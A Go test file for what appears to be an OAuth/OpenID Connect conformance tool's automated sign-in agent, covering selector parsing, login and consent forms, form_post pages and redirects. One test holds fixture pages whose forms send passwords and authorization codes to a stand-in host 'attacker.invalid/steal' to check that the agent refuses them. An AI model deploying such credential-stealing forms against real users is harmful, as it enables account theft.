package conformance

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/html"
)

func TestSelectorMatching(t *testing.T) {
	doc, err := html.Parse(strings.NewReader(`<form id="login"><input name="user" class="big wide">
<button type="submit" name="decision" value="deny">No</button><button type="submit" name="decision" value="allow">Yes</button></form>`))
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		selector string
		expected string
	}{
		{"[name=user]", "input"},
		{"#login", "form"},
		{".wide", "input"},
		{`button[value="allow"]`, "button:allow"},
		{"button[name=decision][value=allow]", "button:allow"},
		{"select, button", "button:deny"},
		{"[name=missing]", ""},
	}
	for _, c := range cases {
		t.Run(c.selector, func(t *testing.T) {
			s, err := parseSelector(c.selector)
			if err != nil {
				t.Fatal(err)
			}
			found := s.first(doc)
			got := ""
			if found != nil {
				got = found.Data
				if value, ok := attribute(found, "value"); ok {
					got += ":" + value
				}
			}
			if got != c.expected {
				t.Errorf("first match = %q, expected %q", got, c.expected)
			}
		})
	}

	for _, invalid := range []string{"form > input", "[name=x", "a,,b", "#"} {
		if _, err := parseSelector(invalid); err == nil {
			t.Errorf("selector %q was accepted", invalid)
		}
	}
}

// fakeLoginSite is a provider's login and consent pages, a form_post page,
// and a callback, on one server.
type fakeLoginSite struct {
	mu       sync.Mutex
	posted   []url.Values
	callback url.Values
	fragment string
}

func (s *fakeLoginSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	_ = r.ParseForm()
	s.mu.Lock()
	defer s.mu.Unlock()
	w.Header().Set("Content-Type", "text/html")
	switch r.URL.Path {
	case "/authorize":
		_, _ = io.WriteString(w, `<form method="post" action="/login"><input type="hidden" name="csrf" value="c1">
<input name="username" value=""><input type="password" name="password"><input type="checkbox" name="remember">
<button type="submit">Sign in</button></form>`)
	case "/login":
		s.posted = append(s.posted, r.PostForm)
		_, _ = io.WriteString(w, `<form method="post" action="/consent"><input type="hidden" name="flow" value="f1">
<button name="decision" value="deny">Deny</button><button name="decision" value="allow">Allow</button></form>`)
	case "/consent":
		s.posted = append(s.posted, r.PostForm)
		_, _ = io.WriteString(w, `<html><body onload="javascript:document.forms[0].submit()"><form method="post" action="/callback">
<input type="hidden" name="code" value="xyz"><input type="hidden" name="state" value="s1"></form></body></html>`)
	case "/callback":
		s.callback = r.PostForm
		w.Header().Set(fragmentEndpointHeader, "/fragment")
	case "/fragment":
		body, _ := io.ReadAll(r.Body)
		s.fragment = string(body)
	}
}

func TestHTTPAgentSignsInAndSubmitsFormPost(t *testing.T) {
	site := &fakeLoginSite{}
	server := httptest.NewServer(site)
	defer server.Close()
	selectors, err := compileSelectors(DefaultSelectors())
	if err != nil {
		t.Fatal(err)
	}
	// The test server plays the provider and the relying party, so the
	// agent is given a callback server elsewhere and submits the
	// form_post page to the test server like any other form.
	agent := newHTTPAgent(server.Client(), "http://callback.invalid", server.URL, selectors, "alice", "secret")

	nav, err := agent.navigate(context.Background(), server.URL+"/authorize", navigateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if nav.Logins != 1 || nav.Consents != 1 {
		t.Errorf("logins = %d, consents = %d, expected 1 and 1", nav.Logins, nav.Consents)
	}

	site.mu.Lock()
	defer site.mu.Unlock()
	if len(site.posted) != 2 {
		t.Fatalf("%d forms were posted, expected 2", len(site.posted))
	}
	login := site.posted[0]
	if login.Get("username") != "alice" || login.Get("password") != "secret" || login.Get("csrf") != "c1" {
		t.Errorf("login form = %v", login)
	}
	if login.Has("remember") {
		t.Errorf("an unchecked checkbox was posted: %v", login)
	}
	consent := site.posted[1]
	if consent.Get("decision") != "allow" || consent.Get("flow") != "f1" {
		t.Errorf("consent form = %v", consent)
	}
	if site.callback.Get("code") != "xyz" || site.callback.Get("state") != "s1" {
		t.Errorf("the form_post page was not submitted as a browser would: %v", site.callback)
	}
}

func TestHTTPAgentPostsFragment(t *testing.T) {
	site := &fakeLoginSite{}
	server := httptest.NewServer(site)
	defer server.Close()
	selectors, _ := compileSelectors(DefaultSelectors())
	agent := newHTTPAgent(server.Client(), server.URL, "https://provider.invalid", selectors, "alice", "secret")

	nav, err := agent.navigate(context.Background(), server.URL+"/callback#id_token=a.b.c&state=s%2B1", navigateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !nav.ReachedHarness {
		t.Error("the agent did not see that it reached the callback server")
	}
	site.mu.Lock()
	defer site.mu.Unlock()
	if site.fragment != "id_token=a.b.c&state=s%2B1" {
		t.Errorf("posted fragment = %q, expected the raw location.hash without '#'", site.fragment)
	}
}

func TestHTTPAgentStopsAtOtherHosts(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://rp.example.org/callback?code=x", http.StatusFound)
	}))
	defer server.Close()
	selectors, _ := compileSelectors(DefaultSelectors())
	agent := newHTTPAgent(server.Client(), "http://callback.invalid", server.URL, selectors, "alice", "secret")
	nav, err := agent.navigate(context.Background(), server.URL+"/authorize", navigateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if nav.ExternalRedirect != "https://rp.example.org/callback?code=x" {
		t.Errorf("external redirect = %q", nav.ExternalRedirect)
	}
}

// hostRecorder is a transport that sends requests to one host and records
// the requests to any other host without sending them.
type hostRecorder struct {
	allowed string
	next    http.RoundTripper

	mu      sync.Mutex
	blocked []string
	closed  int
}

func (h *hostRecorder) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.URL.Host != h.allowed {
		h.mu.Lock()
		h.blocked = append(h.blocked, r.URL.String())
		h.mu.Unlock()
		return nil, errors.New("the test transport sends nothing to " + r.URL.Host)
	}
	return h.next.RoundTrip(r)
}

func (h *hostRecorder) CloseIdleConnections() {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.closed++
}

func TestHTTPAgentRefusesFormsToOtherOrigins(t *testing.T) {
	pages := map[string]string{
		"login":      `<form method="post" action="https://attacker.invalid/steal"><input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>`,
		"consent":    `<form method="post" action="https://attacker.invalid/consent"><button name="decision" value="allow">Allow</button></form>`,
		"form_post":  `<body onload="document.forms[0].submit()"><form method="post" action="https://attacker.invalid/callback"><input type="hidden" name="code" value="xyz"></form></body>`,
		"other port": `<form method="post" action="/login"><input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>`,
	}
	for name, page := range pages {
		t.Run(name, func(t *testing.T) {
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "text/html")
				_, _ = io.WriteString(w, page)
			}))
			defer server.Close()
			transport := &hostRecorder{allowed: strings.TrimPrefix(server.URL, "http://"), next: server.Client().Transport}
			selectors, _ := compileSelectors(DefaultSelectors())
			issuer := server.URL
			if name == "other port" {
				// The page is served from another port than the issuer's,
				// so its relative action leaves the provider's origin.
				issuer = "http://127.0.0.1:1"
			}
			agent := newHTTPAgent(&http.Client{Transport: transport}, "http://callback.invalid", issuer, selectors, "alice", "secret")

			_, err := agent.navigate(context.Background(), server.URL+"/authorize", navigateOptions{})
			if err == nil || !strings.Contains(err.Error(), "did not submit it") {
				t.Errorf("error = %v, expected the form to be refused", err)
			}
			transport.mu.Lock()
			defer transport.mu.Unlock()
			if len(transport.blocked) > 0 {
				t.Errorf("the agent sent requests to other origins: %v", transport.blocked)
			}
		})
	}
}

func TestHTTPAgentFormEnctypes(t *testing.T) {
	cases := []struct {
		enctype     string
		contentType string
		body        string
	}{
		{"", "application/x-www-form-urlencoded", "code=a+b&state=s%261"},
		{"text/plain", "text/plain", "code=a b\r\nstate=s&1\r\n"},
		{"multipart/form-data", "multipart/form-data", `name="code"`},
	}
	for _, c := range cases {
		t.Run(c.contentType, func(t *testing.T) {
			var mu sync.Mutex
			var gotType, gotBody string
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.Method == http.MethodPost {
					body, _ := io.ReadAll(r.Body)
					mu.Lock()
					gotType, gotBody = r.Header.Get("Content-Type"), string(body)
					mu.Unlock()
					return
				}
				w.Header().Set("Content-Type", "text/html")
				_, _ = io.WriteString(w, `<body onload="document.forms[0].submit()"><form method="post" action="/callback" enctype="`+c.enctype+
					`"><input type="hidden" name="code" value="a b"><input type="hidden" name="state" value="s&amp;1"></form></body>`)
			}))
			defer server.Close()
			selectors, _ := compileSelectors(DefaultSelectors())
			agent := newHTTPAgent(server.Client(), "http://callback.invalid", server.URL, selectors, "alice", "secret")
			if _, err := agent.navigate(context.Background(), server.URL+"/form_post", navigateOptions{}); err != nil {
				t.Fatal(err)
			}
			mu.Lock()
			defer mu.Unlock()
			if !strings.HasPrefix(gotType, c.contentType) {
				t.Errorf("Content-Type = %q, expected %s", gotType, c.contentType)
			}
			if !strings.Contains(gotBody, c.body) {
				t.Errorf("body = %q, expected it to contain %q", gotBody, c.body)
			}
		})
	}
}

func TestHTTPAgentCloseClosesIdleConnections(t *testing.T) {
	transport := &hostRecorder{allowed: "op.invalid", next: http.DefaultTransport}
	selectors, _ := compileSelectors(DefaultSelectors())
	agent := newHTTPAgent(&http.Client{Transport: transport}, "http://callback.invalid", "https://op.invalid", selectors, "alice", "secret")
	agent.close()
	transport.mu.Lock()
	defer transport.mu.Unlock()
	if transport.closed != 1 {
		t.Errorf("CloseIdleConnections was called %d times, expected once", transport.closed)
	}
}
